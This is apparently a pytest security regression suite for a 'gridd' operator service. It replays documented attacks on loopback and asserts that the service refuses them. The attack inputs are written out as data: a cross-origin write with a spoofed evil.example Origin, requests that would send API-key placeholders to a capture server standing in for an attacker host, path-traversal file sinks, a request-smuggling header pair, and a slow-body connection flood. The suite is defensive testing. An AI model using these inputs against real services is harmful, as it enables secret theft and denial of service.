"""docs/security.md, through real processes on loopback: the attacks of the security issue
replayed against a real operator (providers API on loopback, no admin token) with a
`gridd sim` backend and a capture server standing in for the attacker's host."""

from __future__ import annotations

import http.server
import json
import os
import pathlib
import signal
import socket
import stat
import subprocess
import sys
import threading
import time

import httpx
import pytest
import yaml
from realproc import gridctl, gridctl_status, start_gridd, wait_until

from gridd.childprocs import free_ports, stop_processes

pytestmark = pytest.mark.realproc

OPERATOR = """\
role: operator
site: a
state_dir: state
control_socket: run/op.sock
listen:
  http: 127.0.0.1:{api_port}
timings: {{scrape_interval_s: 0.5}}
providers:
  - name: secret
    model: m
    settings:
      endpoint: http://127.0.0.1:{sim_port}/v1
      auth: {{scheme: bearer, api_key: sk-literal}}
    metrics: {{url: "http://127.0.0.1:{sim_port}/metrics"}}
  - name: keyed
    model: m
    settings:
      endpoint: http://127.0.0.1:{sim_port}/v1
      auth: {{scheme: bearer, api_key: "${{SIM_KEY}}"}}
"""


class Capture:
    """The attacker's host: answers 200 to everything, records each request's headers."""

    def __init__(self) -> None:
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                seen.append({k.lower(): v for k, v in self.headers.items()})
                body = b"vllm:num_requests_waiting 0\n"
                self.send_response(200)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_real_operator_keeps_secrets_home_and_its_api_and_files_closed(tmp_path):
    sim_port, api_port = free_ports(2)
    path = tmp_path / "operator.yaml"
    path.write_text(OPERATOR.format(api_port=api_port, sim_port=sim_port))
    victim = tmp_path.parent / f"{tmp_path.name}-victim.txt"  # outside the workspace
    victim.write_text("precious\n")
    env = {**os.environ, "SIM_KEY": "sim-secret"}
    base = f"http://127.0.0.1:{api_port}"
    capture = Capture()
    evil = f"http://127.0.0.1:{capture.port}"  # another origin (another port)
    procs = []
    try:
        procs.append(start_gridd("sim", "--flavour", "vllm", "--port", str(sim_port), env=env))
        operator = start_gridd("run", "--config", str(path), env=env)
        procs.append(operator)
        sock = tmp_path / "run" / "op.sock"
        status = wait_until(lambda: (s := gridctl_status(sock)) and s["state"] == "serving" and s,
                            "the operator serving")
        token_file = tmp_path / "state" / "api-token"
        assert status["role_status"]["providers_api"]["token_file"] == str(token_file)
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        token = token_file.read_text().strip()
        auth = {"authorization": f"Bearer {token}"}
        before = path.read_bytes()

        with httpx.Client(base_url=base, timeout=30) as client:
            # Item 2: the cross-site write (text/plain, a page's Origin and Host) and a
            # tokenless JSON write are refused; a tokenless read from loopback still works.
            page = {"content-type": "text/plain", "origin": "http://evil.example", "host": "evil.example"}
            body = json.dumps({"metrics": {"url": f"{evil}/metrics"}})
            assert client.post("/v1/providers/secret", headers=page, content=body).status_code == 403
            resp = client.post("/v1/providers/secret", headers={"content-type": "application/json"},
                               content=body)
            assert resp.status_code == 401 and resp.json()["error"]["code"] == "invalid_api_key"
            assert client.delete("/v1/providers/secret").status_code == 401
            shown = client.get("/v1/providers/secret").json()
            assert shown["settings"]["auth"]["api_key"] == "***REDACTED***"
            assert client.get("/v1/providers/secret", headers={"host": "evil.example"}).status_code == 403
            assert path.read_bytes() == before

            # gridctl reads the token file.
            out = gridctl(sock, "providers", "get", "keyed")
            assert out.returncode == 0, out.stderr
            assert json.loads(out.stdout)["settings"]["auth"]["api_key"] == "${SIM_KEY}"
            out = gridctl(sock, "providers", "set", "keyed", stdin='{"enabled": false}')
            assert out.returncode == 0 and json.loads(out.stdout)["enabled"] is False, out.stderr
            before = path.read_bytes()

            # Item 1: a placeholder into another origin's query, the endpoint moved with the
            # placeholder, a metrics auth block naming it at another origin: all refused.
            for name, fields, param in (
                ("keyed", {"metrics": {"url": f"{evil}/metrics?k=${{SIM_KEY}}"}}, "metrics.url"),
                ("keyed", {"settings": {"endpoint": f"{evil}/v1", "auth": {"scheme": "bearer",
                                                                           "api_key": "${SIM_KEY}"}}},
                 "settings.auth.api_key"),
                ("keyed", {"metrics": {"url": f"{evil}/metrics",
                                       "auth": {"scheme": "bearer", "api_key": "${SIM_KEY}"}}},
                 "metrics.auth.api_key"),
            ):
                resp = client.post(f"/v1/providers/{name}", headers=auth, json=fields)
                assert resp.status_code == 400, resp.text
                error = resp.json()["error"]
                assert (error["code"], error["param"]) == ("secret_origin_changed", param)
            assert path.read_bytes() == before
            # Only metrics.url changed to another origin: accepted, but the stored key stays home.
            resp = client.post("/v1/providers/secret", headers=auth,
                               json={"metrics": {"url": f"{evil}/metrics"}})
            assert resp.status_code == 200, resp.text
            wait_until(lambda: len(capture.seen) >= 3, "three scrapes at the new metrics URL")
            assert all("authorization" not in h for h in capture.seen), capture.seen
            seen = json.dumps(capture.seen)
            assert "sk-literal" not in seen and "sim-secret" not in seen

            # Item 3: a file sink outside the workspace (the overwrite, max_entries 1).
            probe = {"name": "p", "endpoint": f"http://127.0.0.1:{sim_port}/metrics", "interval": 0.5,
                     "extract": [{"regex": r"vllm:(num_requests_waiting)\{[^}]*\}\s+([0-9.]+)"}],
                     "publish": [{"to": "file", "path": str(victim), "max_entries": 1}]}
            settings = {"endpoint": f"http://127.0.0.1:{sim_port}/v1",
                        "auth": {"scheme": "bearer", "api_key": "sk-literal"}, "probes": [probe]}
            resp = client.post("/v1/providers/secret", headers=auth, json={"settings": settings})
            assert resp.status_code == 409 and "is outside the workspace" in resp.json()["error"]["message"]
            probe["publish"][0]["path"] = "../" + victim.name
            resp = client.post("/v1/providers/secret", headers=auth, json={"settings": settings})
            assert resp.status_code == 400 and "'..' is not allowed" in resp.json()["error"]["message"]
            time.sleep(2)
            assert victim.read_text() == "precious\n"
            assert yaml.safe_load(path.read_text())["providers"][0]["metrics"]["url"] == f"{evil}/metrics"

        operator.send_signal(signal.SIGTERM)
        assert operator.wait(timeout=20) == 0
    finally:
        capture.close()
        victim.unlink(missing_ok=True)
        stop_processes(procs, grace_s=10)


def _open_fds(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def test_real_providers_api_bounds_slow_bodies_and_connections(tmp_path):
    """Item 4 on a real operator's providers API (the gateway front is served the same way;
    benchmarks/abuse.py runs it at 2000 connections): a trickling body ends at the whole-body
    deadline, connections past the cap evict the longest-waiting ones, a well-behaved client
    is served meanwhile, and Content-Length with Transfer-Encoding is refused."""
    [api_port] = free_ports(1)
    path = tmp_path / "operator.yaml"
    path.write_text(f"role: operator\nsite: a\nstate_dir: state\ncontrol_socket: run/op.sock\n"
                    f"listen: {{http: '127.0.0.1:{api_port}'}}\n"
                    f"limits: {{http_max_connections: 20, http_body_deadline_s: 3}}\n")
    operator = start_gridd("run", "--config", str(path))
    slow: list[socket.socket] = []
    try:
        wait_until(lambda: (s := gridctl_status(tmp_path / "run" / "op.sock")) and s["state"] == "serving",
                   "the operator serving")
        token = (tmp_path / "state" / "api-token").read_text().strip()
        fds_before = _open_fds(operator.pid)
        head = (b"POST /v1/providers/x HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\n"
                b"authorization: Bearer " + token.encode() + b"\r\ncontent-length: 100000\r\n\r\n{")
        started = time.monotonic()
        for _ in range(40):
            sock = socket.create_connection(("127.0.0.1", api_port), timeout=10)
            sock.sendall(head)
            slow.append(sock)
        # A byte a second: never idle for body_idle_s (10 s), yet never complete.
        answered: dict[int, bytes] = {}
        good = []
        while time.monotonic() - started < 8 and len(answered) < len(slow):
            for i, sock in enumerate(slow):
                if i in answered:
                    continue
                try:
                    sock.sendall(b" ")
                except OSError:
                    answered[i] = b"reset"
            with httpx.Client(timeout=5) as client:  # a new connection each time: past the cap
                good.append(client.get(f"http://127.0.0.1:{api_port}/v1/providers").status_code)
            assert _open_fds(operator.pid) <= fds_before + 20 + 2
            for i, sock in enumerate(slow):
                if i in answered:
                    continue
                sock.settimeout(0.05)
                try:
                    answered[i] = sock.recv(100) or b"closed"
                except TimeoutError:
                    pass
                except OSError:
                    answered[i] = b"reset"
            time.sleep(1)
        assert good and set(good) == {200}
        assert len(answered) == 40, f"{40 - len(answered)} slow bodies still open after 8 s"
        timed_out = [a for a in answered.values() if a.startswith(b"HTTP/1.1 408 ")]
        assert len(timed_out) >= 19 and len(answered) - len(timed_out) >= 20  # the rest were evicted

        with socket.create_connection(("127.0.0.1", api_port), timeout=10) as sock:
            sock.sendall(b"POST /v1/providers/x HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
            assert sock.recv(100).startswith(b"HTTP/1.1 400 ")
    finally:
        for sock in slow:
            sock.close()
        stop_processes([operator], grace_s=10)
    assert operator.returncode == 0


def test_real_operator_bounds_a_flooding_peer(tmp_path):
    """Item 5: a peer with a valid certificate sending new provider names every poll (and a
    100 000-character one) is held to limits.peer_max_providers, its names over 255 characters
    are refused, and names it stopped sending are forgotten after 2 x the TTL, so new ones get
    in while the held count stays at the cap."""
    certs = tmp_path / "certs"
    for args in (["init"], ["issue", "--site", "a", "--role", "operator"],
                 ["issue", "--site", "b", "--role", "operator"]):
        subprocess.run([sys.executable, "-m", "gridd", "certs", *args, str(certs)], check=True,
                       capture_output=True, timeout=60)
    sig_port, peer_port, met_port = free_ports(3)
    path = tmp_path / "operator.yaml"
    path.write_text(f"""\
role: operator
site: a
tls: {{ca: certs/ca.pem, cert: certs/a-operator.pem, key: certs/a-operator-key.pem}}
listen: {{signals: "127.0.0.1:{sig_port}", metrics: "127.0.0.1:{met_port}"}}
control_socket: run/op.sock
state_dir: state
peers:
  - {{site: b, url: "wss://127.0.0.1:{peer_port}/signals"}}
timings: {{peer_poll_interval_s: 1, peer_poll_budget_s: 2, signal_ttl_s: 2}}
limits: {{peer_max_providers: 50}}
""")
    abuse = pathlib.Path(__file__).resolve().parent.parent / "benchmarks" / "abuse.py"
    procs = [subprocess.Popen([sys.executable, str(abuse), "flood-peer", "--certs", str(certs), "--port",
                               str(peer_port), "--names", "300", "--long-name-chars", "100000"],
                              stderr=subprocess.DEVNULL, env=dict(os.environ)),
             start_gridd("run", "--config", str(path))]
    try:
        sock = tmp_path / "run" / "op.sock"

        def peer():
            status = gridctl_status(sock)
            if not status or status["state"] != "serving":
                return None
            return status["role_status"]["peers"][0] | {"held": status["role_status"]["held_readings"]}

        # Names sent 2 x TTL (4 s) ago are forgotten: more than the cap get in over time...
        state = wait_until(lambda: (p := peer()) and p["batches"]["accepted"] >= 150 and p,
                           "forgotten names making room")
        # ...while the held count never passes it, and the long name never gets in.
        assert state["held"] <= 50
        assert state["refused"]["provider_cap"] > 0 and state["refused"]["name_length"] >= 1
        metrics = httpx.get(f"http://127.0.0.1:{met_port}/metrics", timeout=5).text
        assert "long-x" not in metrics and len(metrics) < 200_000
        assert len({line.split('grid_provider="')[1].split('"')[0]
                    for line in metrics.splitlines() if 'grid_provider="flood-' in line}) <= 50
    finally:
        stop_processes(procs, grace_s=10)
